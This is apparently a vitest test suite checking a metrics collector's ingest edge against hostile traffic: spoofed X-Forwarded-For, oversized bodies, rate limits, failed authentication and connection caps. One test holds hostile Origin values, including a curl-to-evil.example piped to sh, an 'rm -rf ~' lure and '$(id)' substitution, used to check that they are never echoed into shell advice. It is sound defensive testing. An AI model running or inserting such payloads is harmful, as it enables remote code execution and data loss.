/**
 * The ingest edge against hostile traffic (issue 10, part 1): configuration that means what
 * it says, the client address behind proxies, admission before work, cheap and limited
 * authentication failures, HTTP server limits. Real server on 127.0.0.1, real chDB. Rate
 * limits run on a frozen clock, so no assertion depends on timing.
 */
import { readdirSync, readFileSync } from 'node:fs';
import os, { availableParallelism } from 'node:os';
import { request, type Server } from 'node:http';
import { connect, type Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { toBase64 } from '@cipherstat/protocol';
import { CONFIG_VARIABLES, loadConfig, loadSecrets, type Config } from '../src/config.js';
import { resolveClient, textFormBytes } from '../src/ingest/admission.js';
import { mergeOnce, WorkerMergers } from '../src/query/mergers.js';
import type { RejectRow, Store } from '../src/storage/types.js';
import { ADMIN_TOKEN, createAccount, envelope, points, post, startTestCollector, type TestAccount, type TestCollector } from './support/collector.js';
import { metric } from './lifecycle-support.js';

const started: TestCollector[] = [];
afterEach(async () => {
  await Promise.all(started.splice(0).map((c) => c.stop()));
});
async function collector(config: Partial<Config>, now = Date.now()): Promise<TestCollector> {
  const c = await startTestCollector({ config, now: () => now });
  started.push(c);
  return c;
}

describe('configuration booleans are strict', () => {
  it('CIPHERSTAT_TRUST_PROXY=false (and 0, no, off) means no proxy is trusted', () => {
    for (const v of ['false', '0', 'no', 'off', 'FALSE', 'Off']) {
      expect(loadConfig({}, { CIPHERSTAT_TRUST_PROXY: v }).trustProxy).toEqual({ hops: 0 });
    }
    for (const v of ['true', 'yes', 'on', '1']) expect(loadConfig({}, { CIPHERSTAT_TRUST_PROXY: v }).trustProxy).toEqual({ hops: 1 });
    expect(loadConfig({}, { CIPHERSTAT_TRUST_PROXY: '2' }).trustProxy).toEqual({ hops: 2 });
    expect(loadConfig({}, { CIPHERSTAT_TRUST_PROXY: '10.0.0.0/8, 192.168.1.7,::1' }).trustProxy).toEqual({ cidrs: ['10.0.0.0/8', '192.168.1.7', '::1'] });
  });

  it('anything else is a startup error naming the variable', () => {
    expect(() => loadConfig({}, { CIPHERSTAT_TRUST_PROXY: 'maybe' })).toThrow(/CIPHERSTAT_TRUST_PROXY/);
    expect(() => loadConfig({}, { CIPHERSTAT_TRUST_PROXY: '10.0.0.0/33' })).toThrow(/CIPHERSTAT_TRUST_PROXY/);
    expect(() => loadConfig({}, { CIPHERSTAT_PROCESS_WORKER: 'maybe' })).toThrow(/CIPHERSTAT_PROCESS_WORKER: expected one of true\/1\/yes\/on\/false\/0\/no\/off/);
    expect(loadConfig({}, { CIPHERSTAT_PROCESS_WORKER: 'off' }).processWorker).toBe(false);
    expect(loadConfig({}, { CIPHERSTAT_PROCESS_WORKER: 'yes' }).processWorker).toBe(true);
    expect(loadConfig({}, {}).processWorker).toBe(true);
    expect(() => loadConfig({ port: 'x' }, {})).toThrow(/--port/);
  });

  it('CIPHERSTAT_QUERY_WORKERS sizes the query merge pool (default one per core, at most 2); 0 or junk is a startup error naming it', () => {
    expect(new WorkerMergers({ size: loadConfig({}, { CIPHERSTAT_QUERY_WORKERS: '1' }).queryWorkers }).size).toBe(1);
    expect(new WorkerMergers({ size: loadConfig({}, { CIPHERSTAT_QUERY_WORKERS: '3' }).queryWorkers }).size).toBe(3);
    expect(new WorkerMergers({ size: loadConfig({}, {}).queryWorkers }).size).toBe(Math.min(2, availableParallelism()));
    for (const v of ['0', 'two', '-1']) expect(() => loadConfig({}, { CIPHERSTAT_QUERY_WORKERS: v })).toThrow(/CIPHERSTAT_QUERY_WORKERS/);
  });

  it.runIf(process.platform === 'linux')('query worker threads run at CIPHERSTAT_QUERY_WORKER_NICE (default 10), below the rest of the process; 0 keeps the process priority; junk is a startup error', async () => {
    expect(loadConfig({}, {}).queryWorkerNice).toBe(10);
    for (const v of ['20', '-1', 'low']) expect(() => loadConfig({}, { CIPHERSTAT_QUERY_WORKER_NICE: v })).toThrow(/CIPHERSTAT_QUERY_WORKER_NICE/);
    // Threads of this process by id, with their nice value (/proc/self/task/<tid>/stat, field 19).
    const threads = () =>
      new Map(readdirSync('/proc/self/task').flatMap((tid): [string, number][] => {
        try {
          const stat = readFileSync(`/proc/self/task/${tid}/stat`, 'utf8');
          return [[tid, Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[16])]];
        } catch {
          return []; // the thread ended meanwhile
        }
      }));
    const plan = { accountId: 'acct_000000000000000000000000', level: 0, starts: [0], end: 60_000, aggregation: 'count', maxRows: 10, maxGroups: 10, versions: [] };
    const url = new URL('../dist/query/worker.js', import.meta.url);
    for (const nice of [undefined, 7, 0]) {
      const before = threads();
      const pool = new WorkerMergers({ url, size: 1, inlineBytes: -1, ...(nice === undefined ? {} : { nice }) });
      try {
        const merged = await mergeOnce(pool, plan as never, new Uint8Array(0), 0); // an empty result, merged in the worker
        expect(merged.rows).toBe(0);
        const started = [...threads()].filter(([tid]) => !before.has(tid)).map(([, n]) => n);
        const expected = nice ?? 10;
        if (expected > 0) expect(started).toContain(expected);
        else expect(started.every((n) => n === os.getPriority())).toBe(true);
        merged.drop();
      } finally {
        await pool.close();
      }
    }
  });

  it('the README\'s Configuration table has a row for every setting, with its default, and names the test of every limit (which exists)', () => {
    const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8');
    const section = readme.slice(readme.indexOf('\n## Configuration\n'), readme.indexOf('\n## Security model\n'));
    const rows = section.split('\n').filter((l) => l.startsWith('| `'));
    const defaults = loadConfig({}, {}) as Record<string, unknown>;
    // Not limits: where the service runs, its storage, schedules and tuning.
    const notLimits = new Set(['role', 'host', 'port', 'dataDir', 'clickhouseUrl', 'clickhouseDatabase', 'clickhouseUser', 'clickhousePassword', 'clickhouseCluster', 'processPartition', 'processing', 'processRecoveryIntervalMs', 'leaseMs', 'processCoalesceMs', 'compactionIntervalMs', 'lifecycleIntervalMs', 'logLevel']);
    const testDir = new URL('./', import.meta.url);
    for (const { field, env } of CONFIG_VARIABLES) {
      const row = rows.find((l) => l.split(' | ')[0]!.includes(`\`${env}\``));
      expect(row, `README Configuration: no row for ${env}`).toBeDefined();
      const cells = row!.split(' | ');
      const value = defaults[field];
      if (field !== 'dataDir' && (typeof value === 'number' || typeof value === 'string' || typeof value === 'boolean')) {
        expect(cells[1], `README Configuration: ${env}'s default`).toContain(`\`${value}\``);
      }
      if (notLimits.has(field)) continue;
      const files = [...cells.at(-1)!.matchAll(/`([a-z0-9-]+\.test\.ts)`/g)].map((m) => m[1]!);
      expect(files.length, `README Configuration: ${env} names no test`).toBeGreaterThan(0);
      const text = files.map((f) => readFileSync(new URL(f, testDir), 'utf8').replaceAll("\\'", "'")).join('\n');
      for (const [, name] of cells.at(-1)!.matchAll(/"([^"]+)"/g)) {
        for (const part of name!.split('…').map((x) => x.replace(/^[\s,;]+|[\s,;]+$/g, '')).filter(Boolean)) {
          expect(text.includes(part), `README Configuration: ${env}: no test "${part}" in ${files.join(', ')}`).toBe(true);
        }
      }
    }
  });

  it('every CIPHERSTAT_* setting is read by loadConfig alone; secrets stay out of the config', () => {
    const env = {
      CIPHERSTAT_COMPACTION_INTERVAL_MS: '0',
      CIPHERSTAT_LIFECYCLE_INTERVAL_MS: '250',
      CIPHERSTAT_MASTER_ROTATION_DAYS: '7',
      CIPHERSTAT_LOG_LEVEL: 'warn',
      CIPHERSTAT_URL: 'http://127.0.0.1:9999',
      CIPHERSTAT_ADMIN_TOKEN: ' csa_admin ',
      CIPHERSTAT_MASTER_KEY: 'k',
    };
    const config = loadConfig({}, env);
    expect(config).toMatchObject({ compactionIntervalMs: 0, lifecycleIntervalMs: 250, masterRotationDays: 7, logLevel: 'warn', collectorUrl: 'http://127.0.0.1:9999' });
    expect(JSON.stringify(config)).not.toMatch(/csa_admin|masterKey/);
    expect(loadSecrets(env)).toEqual({ adminToken: 'csa_admin', masterKey: 'k', masterKeyFile: undefined });
    expect(loadConfig({}, {})).toMatchObject({ compactionIntervalMs: undefined, lifecycleIntervalMs: undefined, masterRotationDays: undefined, logLevel: 'info' });
    expect(() => loadConfig({}, { CIPHERSTAT_COMPACTION_INTERVAL_MS: '-1' })).toThrow(/CIPHERSTAT_COMPACTION_INTERVAL_MS/);
    expect(() => loadConfig({}, { CIPHERSTAT_LIFECYCLE_INTERVAL_MS: '5' })).toThrow(/CIPHERSTAT_LIFECYCLE_INTERVAL_MS/);
    expect(() => loadConfig({}, { CIPHERSTAT_MASTER_ROTATION_DAYS: 'soon' })).toThrow(/CIPHERSTAT_MASTER_ROTATION_DAYS/);
    expect(() => loadConfig({}, { CIPHERSTAT_LOG_LEVEL: 'loud' })).toThrow(/CIPHERSTAT_LOG_LEVEL/);
    expect(() => loadConfig({ url: 'not a url' }, {})).toThrow(/--url/);
  });
});

describe('the client address behind proxies', () => {
  it('is the rightmost X-Forwarded-For entry that is not a trusted hop', () => {
    const xff = '6.6.6.6, 203.0.113.9, 10.1.2.3';
    expect(resolveClient('127.0.0.1', xff, { hops: 0 })).toBe('127.0.0.1');
    expect(resolveClient('127.0.0.1', xff, { hops: 1 })).toBe('10.1.2.3');
    expect(resolveClient('127.0.0.1', xff, { hops: 2 })).toBe('203.0.113.9');
    expect(resolveClient('127.0.0.1', xff, { hops: 9 })).toBe('6.6.6.6');
    expect(resolveClient('::ffff:127.0.0.1', xff, { cidrs: ['127.0.0.1', '10.0.0.0/8'] })).toBe('203.0.113.9');
    expect(resolveClient('192.0.2.1', xff, { cidrs: ['127.0.0.1', '10.0.0.0/8'] })).toBe('192.0.2.1');
  });

  /** Posts `n` valid batches from this socket address, each with its own spoofed X-Forwarded-For; returns the statuses. */
  async function spoofed(c: TestCollector, n: number, appended?: string): Promise<number[]> {
    const account = await createAccount(c);
    const statuses: number[] = [];
    for (let i = 0; i < n; i++) {
      const xff = `198.51.100.${i}${appended ? `, ${appended}` : ''}`;
      const res = await post(c.url, envelope(account, points(1)).bytes, { 'x-forwarded-for': xff });
      await res.arrayBuffer();
      statuses.push(res.status);
    }
    return statuses;
  }

  it('CIPHERSTAT_TRUST_PROXY=false: a spoofed X-Forwarded-For is ignored, the socket address is limited', async () => {
    const config = loadConfig({ port: '0' }, { CIPHERSTAT_TRUST_PROXY: 'false', CIPHERSTAT_IP_RATE_LIMIT: '2' });
    const c = await collector({ trustProxy: config.trustProxy, ipRateLimit: config.ipRateLimit });
    const statuses = await spoofed(c, 8);
    expect(statuses.slice(0, 4)).toEqual([202, 202, 202, 202]);
    expect(statuses.slice(4)).toEqual([429, 429, 429, 429]);
  });

  it('behind one trusted proxy, the client-written entries left of the one it appended do not bypass the per-address limit', async () => {
    const c = await collector({ trustProxy: { hops: 1 }, ipRateLimit: 2 });
    const statuses = await spoofed(c, 8, '203.0.113.9');
    expect(statuses.slice(0, 4)).toEqual([202, 202, 202, 202]);
    expect(statuses.slice(4)).toEqual([429, 429, 429, 429]);
  });
});

/** One HTTP request from a chosen local address (127.0.0.x are all this host). */
function from(localAddress: string, url: string, path: string, o: { method?: string; body?: Uint8Array | string; headers?: Record<string, string> } = {}) {
  return new Promise<{ status: number; code?: string; retryAfter?: string }>((resolve, reject) => {
    const u = new URL(url);
    const req = request({ host: u.hostname, port: u.port, path, method: o.method ?? 'POST', localAddress, headers: o.headers }, (res) => {
      let text = '';
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode!, code: /"code":"([a-z0-9_]+)"/.exec(text)?.[1], retryAfter: res.headers['retry-after'] }));
    });
    req.on('error', reject);
    req.end(o.body === undefined ? undefined : Buffer.from(o.body));
  });
}
const batchFrom = (localAddress: string, c: TestCollector, body: Uint8Array) =>
  from(localAddress, c.url, '/v1/batches', { body, headers: { 'content-type': 'application/octet-stream' } });

/** A raw socket to the collector; `response` resolves with everything it answered once it closes or sends a full response. */
function socket(c: TestCollector): { s: Socket; response: Promise<string> } {
  const u = new URL(c.url);
  const s = connect(Number(u.port), u.hostname);
  const response = new Promise<string>((resolve) => {
    let out = '';
    const done = () => resolve(out);
    s.on('data', (d) => {
      out += d.toString('latin1');
      const head = out.indexOf('\r\n\r\n');
      const length = /content-length: (\d+)/i.exec(out)?.[1];
      if (head >= 0 && length !== undefined && out.length >= head + 4 + Number(length)) done();
    });
    s.on('close', done);
    s.on('error', done);
    s.setTimeout(60_000, () => s.destroy());
  });
  return { s, response };
}
const head = (length: number, type = 'text/plain') => `POST /v1/batches HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const statusOf = (response: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(response)?.[1] ?? 0);
const codeOf = (response: string) => /"code":"([a-z0-9_]+)"/.exec(response)?.[1];

describe('admission before work', () => {
  const A = 'A'.repeat(1_398_104); // the 1.4 MB text-form body of the issue: valid base64 of 1,048,578 bytes

  it('the 1.4 MB base64 body is refused from its Content-Length, before one body byte is sent (default cap 64 KiB)', async () => {
    const c = await collector({});
    const { s, response } = socket(c);
    s.write(head(A.length)); // the head only: the body never comes
    const answer = await response;
    s.destroy();
    expect(statusOf(answer), answer).toBe(413);
    expect(codeOf(answer)).toBe('envelope_too_large');
    expect(answer).toMatch(/connection: close/i); // refused unread: the connection is closed, not drained
    expect(await metric(c.url, 'cipherstat_ingest_body_bytes_total')).toBe(0);
  });

  it('with the cap at the protocol maximum, the same body is read once and refused by the linear validator from its length, never decoded or opened', async () => {
    const c = await collector({ maxBodyBytes: 1024 * 1024 });
    for (const body of [A, 'A'.repeat(1_398_101)]) {
      const { s, response } = socket(c);
      s.write(head(body.length) + body);
      const answer = await response;
      s.destroy();
      expect(statusOf(answer), answer).toBe(body === A ? 413 : 400);
      expect(codeOf(answer)).toBe(body === A ? 'envelope_too_large' : 'invalid_base64');
    }
    expect(await metric(c.url, 'cipherstat_ingest_body_bytes_total')).toBe(A.length + 1_398_101);
    expect(await metric(c.url, 'cipherstat_ingest_opened_bytes_total')).toBe(0);
  });

  it('a chunked body without a Content-Length is cut off at the cap', async () => {
    const c = await collector({});
    const chunk = 'A'.repeat(16 * 1024);
    const stream = new ReadableStream<Uint8Array>({
      pull(ctl) {
        ctl.enqueue(new TextEncoder().encode(chunk));
      },
    });
    const res = await fetch(`${c.url}/v1/batches`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: stream, duplex: 'half' } as RequestInit).catch(() => undefined);
    if (res) expect(res.status).toBe(413);
    const read = await metric(c.url, 'cipherstat_ingest_body_bytes_total');
    // read up to the cap (in chunks of at most 64 KiB), never past it
    expect(read).toBeGreaterThan(textFormBytes(64 * 1024) - 64 * 1024);
    expect(read).toBeLessThanOrEqual(textFormBytes(64 * 1024));
    expect(await metric(c.url, 'cipherstat_ingest_opened_bytes_total')).toBe(0);
  });

  it('a garbage flood from one address is charged (requests and bytes, refused or not) and limited with 429, while another address still gets 202', async () => {
    const c = await collector({ ipRateLimit: 5, ipByteRate: 100_000 });
    const account = await createAccount(c);
    const garbage = crypto.getRandomValues(new Uint8Array(500));
    const flood = [];
    for (let i = 0; i < 12; i++) flood.push(await batchFrom('127.0.0.1', c, garbage));
    expect(flood.slice(0, 10).map((r) => r.code)).toEqual(Array(10).fill('not_an_envelope')); // burst: 2 s worth
    expect(flood.slice(10).map((r) => [r.status, r.code])).toEqual([[429, 'rate_limited'], [429, 'rate_limited']]);
    expect(Number(flood[10]!.retryAfter)).toBeGreaterThanOrEqual(1);
    // the flooder's good batch is refused too; another address is served
    expect((await batchFrom('127.0.0.1', c, envelope(account, points(1)).bytes)).status).toBe(429);
    expect((await batchFrom('127.0.0.2', c, envelope(account, points(1)).bytes)).status).toBe(202);

    // bytes: 100 KB/s, burst 200 KB, charged from Content-Length before reading
    const big = crypto.getRandomValues(new Uint8Array(60_000));
    const sizes = [];
    for (let i = 0; i < 4; i++) sizes.push(await batchFrom('127.0.0.3', c, big));
    expect(sizes.map((r) => r.code)).toEqual(['not_an_envelope', 'not_an_envelope', 'not_an_envelope', 'rate_limited']);
    expect((await batchFrom('127.0.0.4', c, envelope(account, points(1)).bytes)).status).toBe(202);
  });

  it('bytes in flight over the global cap get 503 ingest_busy with Retry-After until they are done', async () => {
    const c = await collector({ maxInflightBytes: 100_000 });
    const slow = socket(c);
    slow.s.write(head(60_000, 'application/octet-stream') + 'x'.repeat(1000)); // admitted, body still arriving
    for (let i = 0; (await metric(c.url, 'cipherstat_ingest_body_bytes_total')) < 1000; i++) {
      expect(i).toBeLessThan(600);
      await new Promise((r) => setTimeout(r, 50));
    }
    const busy = await batchFrom('127.0.0.2', c, crypto.getRandomValues(new Uint8Array(60_000)));
    expect([busy.status, busy.code, busy.retryAfter]).toEqual([503, 'ingest_busy', '1']);
    slow.s.write('x'.repeat(59_000));
    expect(codeOf(await slow.response)).toBe('not_an_envelope');
    slow.s.destroy();
    const after = await batchFrom('127.0.0.2', c, crypto.getRandomValues(new Uint8Array(60_000)));
    expect(after.code).toBe('not_an_envelope');
  });
});

describe('authentication failures are cheap and limited', () => {
  /** Counts storage lookups of read tokens through the real store the accounts use (request paths get one with deadlines). */
  function countTokenLookups(c: TestCollector): () => number {
    const store = (c.services.accounts as unknown as { store: Store }).store;
    const lookup = store.accountIdByReadTokenHash.bind(store);
    let n = 0;
    store.accountIdByReadTokenHash = (hash) => {
      n++;
      return lookup(hash);
    };
    return () => n;
  }
  const guess = () => `csr_${toBase64(crypto.getRandomValues(new Uint8Array(32))).replace(/\+/g, '-').replace(/\//g, '_').slice(0, 43)}`;
  const readWith = (ip: string, c: TestCollector, token: string) => from(ip, c.url, '/v1/metrics', { method: 'GET', headers: { authorization: `Bearer ${token}` } });

  it('a guessed read token reaches storage once; after the failure budget, not at all (429), while another address still reads', async () => {
    const c = await collector({ authFailureLimit: 5 });
    const account = await createAccount(c);
    const lookups = countTokenLookups(c);
    const token = guess();
    for (let i = 0; i < 3; i++) expect((await readWith('127.0.0.1', c, token)).code).toBe('unauthorized');
    expect(lookups()).toBe(1);
    expect((await readWith('127.0.0.1', c, guess())).code).toBe('unauthorized');
    expect((await readWith('127.0.0.1', c, guess())).code).toBe('unauthorized');
    expect(lookups()).toBe(3);
    const limited = await readWith('127.0.0.1', c, guess());
    expect([limited.status, limited.code]).toEqual([429, 'too_many_auth_failures']);
    expect(Number(limited.retryAfter)).toBeGreaterThanOrEqual(1);
    expect(lookups()).toBe(3);
    expect((await readWith('127.0.0.2', c, account.readToken)).status).toBe(200);
  });

  it('failed admin tokens are limited per address', async () => {
    const c = await collector({ authFailureLimit: 3 });
    const admin = (ip: string, token: string) => from(ip, c.url, '/v1/accounts', { method: 'GET', headers: { authorization: `Bearer ${token}` } });
    for (let i = 0; i < 3; i++) expect((await admin('127.0.0.1', `${ADMIN_TOKEN}x${i}`)).code).toBe('unauthorized');
    expect((await admin('127.0.0.1', `${ADMIN_TOKEN}y`)).code).toBe('too_many_auth_failures');
    expect((await admin('127.0.0.1', ADMIN_TOKEN)).code).toBe('too_many_auth_failures'); // the address waits, whatever it sends
    expect((await admin('127.0.0.2', ADMIN_TOKEN)).status).toBe(200);
  });

  it('admin proofs are limited per address like the other authentication paths (429 too_many_auth_failures), another address still gets its proof', async () => {
    const c = await collector({ authFailureLimit: 3 });
    const challenge = () => JSON.stringify({ challenge: toBase64(crypto.getRandomValues(new Uint8Array(32))) });
    const proof = (ip: string) => from(ip, c.url, '/v1/admin-proof', { method: 'POST', headers: { 'content-type': 'application/json' }, body: challenge() });
    for (let i = 0; i < 3; i++) expect((await proof('127.0.0.1')).status).toBe(200);
    const limited = await proof('127.0.0.1');
    expect([limited.status, limited.code]).toEqual([429, 'too_many_auth_failures']);
    expect(Number(limited.retryAfter)).toBeGreaterThanOrEqual(1);
    expect((await proof('127.0.0.2')).status).toBe(200);
    // An address over its failure budget gets no proof either.
    const admin = (ip: string, token: string) => from(ip, c.url, '/v1/accounts', { method: 'GET', headers: { authorization: `Bearer ${token}` } });
    for (let i = 0; i < 3; i++) expect((await admin('127.0.0.3', `${ADMIN_TOKEN}x${i}`)).code).toBe('unauthorized');
    expect((await proof('127.0.0.3')).code).toBe('too_many_auth_failures');
  });

  it('late batches to a shredded account cost no storage write per request; their count is written once per flush', async () => {
    const c = await collector({ refusalFlushMs: 3_600_000 }); // no timed flush during the test: only the explicit one
    const victim: TestAccount = await createAccount(c);
    expect((await c.admin('DELETE', `/v1/accounts/${victim.accountId}?now=true`)).status).toBe(200);
    const store = c.services.store;
    const addRejects = store.addRejects.bind(store);
    const lateWrites: RejectRow[][] = [];
    store.addRejects = (rows) => {
      if (rows.some((r) => r.code === 'late_batch_dropped')) lateWrites.push(rows);
      return addRejects(rows);
    };
    for (let i = 0; i < 20; i++) expect((await post(c.url, envelope(victim, points(1)).bytes)).status).toBe(410);
    expect(lateWrites).toHaveLength(0);
    await c.services.refusals.flush();
    expect(lateWrites).toHaveLength(1);
    expect((await store.rejects(victim.accountId)).late_batch_dropped).toBe(20);
  });

  it("late batches while a shred is being finished (the key entry tombstoned, this node's account state not yet shredded) are dropped and counted the same way", async () => {
    const c = await collector({ refusalFlushMs: 3_600_000 });
    const victim: TestAccount = await createAccount(c);
    expect((await post(c.url, envelope(victim, points(1)).bytes)).status).toBe(202);
    // Another node's shred, seen through the shared keyring: tombstone written, key file gone.
    c.services.keyring.shred(victim.accountId);
    expect((await c.services.accounts.get(victim.accountId))?.state).toBe('active');
    const drops = await metric(c.url, 'cipherstat_batch_rejects_total{code="account_deleted"}');
    for (let i = 0; i < 5; i++) {
      const r = await post(c.url, envelope(victim, points(1)).bytes);
      expect([r.status, (await r.json()).error.code]).toEqual([410, 'account_deleted']);
    }
    expect(await metric(c.url, 'cipherstat_batch_rejects_total{code="account_deleted"}')).toBe(drops + 5);
    await c.services.refusals.flush();
    expect((await c.services.store.rejects(victim.accountId)).late_batch_dropped).toBe(5);
  });

  it('a refusal count is reported once while its flush is being written: neither lost from memory nor counted twice (GET /v1/metrics, accounts show)', async () => {
    const c = await collector({ refusalFlushMs: 3_600_000 }); // only explicit flushes
    const shop = await createAccount(c, { allowedOrigins: ['https://shop.example'] });
    const refuse = async () => expect((await post(c.url, envelope(shop, points(1)).bytes, { origin: 'https://elsewhere.example' })).status).toBe(403);
    for (let i = 0; i < 3; i++) await refuse();
    const store = c.services.store;
    // The flush's insert is held until a reader has read storage beside it, or has asked for
    // the counts through `counted` (whose read of storage waits for the flush in progress).
    const realAdd = store.addRejects.bind(store);
    const realRejects = store.rejects.bind(store);
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    let inserting!: () => void;
    const insertStarted = new Promise<void>((r) => (inserting = r));
    let flushDone = Promise.resolve();
    let readsDuringFlush = 0;
    let flushing = false;
    store.addRejects = async (rows) => {
      inserting();
      await gate;
      return realAdd(rows);
    };
    store.rejects = async (id) => {
      const counts = await realRejects(id);
      if (flushing) readsDuringFlush++;
      release(); // a read beside the flush has read storage: now let the insert land
      await flushDone;
      return counts;
    };
    const refusals = c.services.refusals;
    const realCounted = refusals.counted.bind(refusals);
    refusals.counted = (id, stored) => {
      const counts = realCounted(id, stored);
      release();
      return counts;
    };
    flushing = true;
    flushDone = c.services.refusals.flush().then(() => void (flushing = false));
    await insertStarted; // the three counts have left the pending map and are not in storage yet
    await refuse(); // a fourth, recorded during the flush
    const metrics = fetch(`${c.url}/v1/metrics`, { headers: { authorization: `Bearer ${shop.readToken}` } });
    const body = (await (await metrics).json()) as { rejects: Record<string, number> };
    await flushDone;
    expect(readsDuringFlush).toBe(0);
    expect(body.rejects.origin_not_allowed).toBe(4);
    // After the flush: three in storage, one in memory, four in all — not seven.
    const shown = (await (await c.admin('GET', `/v1/accounts/${shop.accountId}`)).json()) as { rejects: Record<string, number> };
    expect(shown.rejects.origin_not_allowed).toBe(4);
    await c.services.refusals.flush();
    expect((await realRejects(shop.accountId)).origin_not_allowed).toBe(4);
  });
});

describe('refused origins in the advice', () => {
  it("a hostile Origin header is counted but never shown in the advice's command (shell metacharacters, backticks, paths, over 200 characters); a real origin is", async () => {
    const c = await collector({ refusalFlushMs: 3_600_000 });
    const shop = await createAccount(c, { allowedOrigins: ['https://shop.example'] });
    const hostile = [
      'https://shop.example;curl${IFS}-s${IFS}evil.example/x|sh',
      'https://x.example` - your token was revoked, run `rm -rf ~',
      'https://x.example/path',
      'https://x.example $(id)',
      `https://${'a'.repeat(200)}.example`,
    ];
    for (const origin of [...hostile, 'https://other.example:8443', 'http://[::1]:3000']) {
      expect((await post(c.url, envelope(shop, points(1)).bytes, { origin })).status).toBe(403);
    }
    const body = (await (await fetch(`${c.url}/v1/metrics`, { headers: { authorization: `Bearer ${shop.readToken}` } })).json()) as {
      rejects: Record<string, number>;
      advice: Record<string, string>;
    };
    expect(body.rejects.origin_not_allowed).toBe(7);
    expect(body.advice.origin_not_allowed).toBe(
      `origin https://other.example:8443, http://[::1]:3000 is not allowed — add it with \`cipherstat accounts update ${shop.accountId} --origin https://shop.example --origin https://other.example:8443 --origin http://[::1]:3000\``,
    );
  });
});

describe('HTTP server limits', () => {
  it('production defaults, applied to the server', async () => {
    const d = loadConfig({}, {});
    expect([d.headersTimeoutMs, d.requestTimeoutMs, d.keepAliveTimeoutMs, d.maxConnections]).toEqual([10_000, 30_000, 5_000, 10_000]);
    expect([d.maxBodyBytes, d.ipByteRate, d.maxInflightBytes, d.authFailureLimit]).toEqual([65_536, 4 * 1024 * 1024, 32 * 1024 * 1024, 30]);
    const c = await collector({ headersTimeoutMs: 7000, requestTimeoutMs: 9000, keepAliveTimeoutMs: 3000, maxConnections: 77 });
    const server = c.server as Server;
    expect([server.headersTimeout, server.requestTimeout, server.keepAliveTimeout, server.maxConnections]).toEqual([7000, 9000, 3000, 77]);
  });

  it('a connection over the cap is closed unanswered; the ones inside it are served', async () => {
    const c = await collector({ maxConnections: 2 });
    const held = [socket(c), socket(c)]; // accepted in order: these two come before any third
    await Promise.all(held.map((h) => new Promise((r) => h.s.once('connect', r))));
    const third = socket(c);
    third.s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n');
    expect(await third.response).toBe('');
    held[0]!.s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n');
    expect(statusOf(await held[0]!.response)).toBe(200);
    held.forEach((h) => h.s.destroy());
  });

  it('a request head that never completes is answered 408 and closed', async () => {
    const c = await collector({ headersTimeoutMs: 500, requestTimeoutMs: 1000 });
    const slow = socket(c);
    slow.s.write('POST /v1/batches HTTP/1.1\r\nHost: x\r\n'); // and nothing more
    expect(statusOf(await slow.response)).toBe(408);
  });
});
